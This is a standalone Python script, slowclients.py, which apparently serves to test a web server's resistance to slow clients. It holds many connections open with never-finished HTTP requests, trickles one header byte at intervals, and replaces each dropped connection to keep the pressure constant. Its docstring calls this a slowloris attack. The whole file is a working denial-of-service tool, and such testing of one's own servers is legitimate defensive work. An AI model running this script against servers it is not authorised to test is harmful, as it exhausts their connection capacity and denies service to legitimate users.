#!/usr/bin/python3
"""slowclients.py HOST PORT COUNT SECONDS [INTERVAL]: slow clients against a web server.

Holds COUNT connections to HOST:PORT for SECONDS seconds, each sending a request
that never ends: its first line and Host header, then one byte of further header
lines every INTERVAL seconds (default 5, each connection at its own moment), the
way a slowloris attack ties up a server's connections.  When the server closes a
connection (or answers it: a 408 or 400), it is counted and a new one opened, so the
pressure stays the same all along.  At the end prints one line:

  slow: connections=N held_at_end=N closed_by_server=N answered=N connect_failed=N bytes_sent=N

Uses only the standard library (Debian's /usr/bin/python3 or any other).
"""
import errno
import random
import selectors
import socket
import sys
import time


def main():
    if len(sys.argv) not in (5, 6):
        sys.stderr.write(__doc__)
        return 2
    host, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    interval = float(sys.argv[5]) if len(sys.argv) == 6 else 5.0
    head = ("GET /?q=slow HTTP/1.1\r\nHost: %s:%d\r\n" % (host, port)).encode()
    trickle = b"X-Slow: a\r\n"
    sel = selectors.DefaultSelector()
    conns = {}  # socket -> [next send time, position in trickle]
    stats = dict(connections=0, closed_by_server=0, answered=0, connect_failed=0, bytes_sent=0)
    end = time.monotonic() + seconds

    def open_one():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        err = s.connect_ex((host, port))
        if err not in (0, errno.EINPROGRESS):
            stats["connect_failed"] += 1
            s.close()
            return
        stats["connections"] += 1
        # the first bytes go once the connection is up (writable)
        conns[s] = [None, 0]
        sel.register(s, selectors.EVENT_WRITE)

    def drop(s, how):
        stats[how] += 1
        sel.unregister(s)
        del conns[s]
        s.close()

    for _ in range(count):
        open_one()
    while True:
        now = time.monotonic()
        if now >= end:
            break
        for key, events in sel.select(timeout=0.1):
            s = key.fileobj
            if s not in conns:
                continue
            state = conns[s]
            if state[0] is None and events & selectors.EVENT_WRITE:
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    stats["connect_failed"] += 1
                    stats["connections"] -= 1
                    sel.unregister(s)
                    del conns[s]
                    s.close()
                    continue
                try:
                    stats["bytes_sent"] += s.send(head)
                except OSError:
                    drop(s, "closed_by_server")
                    continue
                state[0] = now + random.uniform(0, interval)
                sel.modify(s, selectors.EVENT_READ)
            elif events & selectors.EVENT_READ:
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                drop(s, "answered" if data else "closed_by_server")
        # the trickle: one byte from each connection whose moment has come
        for s, state in list(conns.items()):
            if state[0] is not None and state[0] <= now:
                try:
                    stats["bytes_sent"] += s.send(trickle[state[1]:state[1] + 1])
                except OSError:
                    drop(s, "closed_by_server")
                    continue
                state[1] = (state[1] + 1) % len(trickle)
                state[0] = now + interval
        # keep COUNT open
        for _ in range(count - len(conns)):
            open_one()
    held = len(conns)
    for s in list(conns):
        s.close()
    print("slow: connections=%d held_at_end=%d closed_by_server=%d answered=%d "
          "connect_failed=%d bytes_sent=%d" % (
              stats["connections"], held, stats["closed_by_server"], stats["answered"],
              stats["connect_failed"], stats["bytes_sent"]))
    return 0


if __name__ == "__main__":
    sys.exit(main())
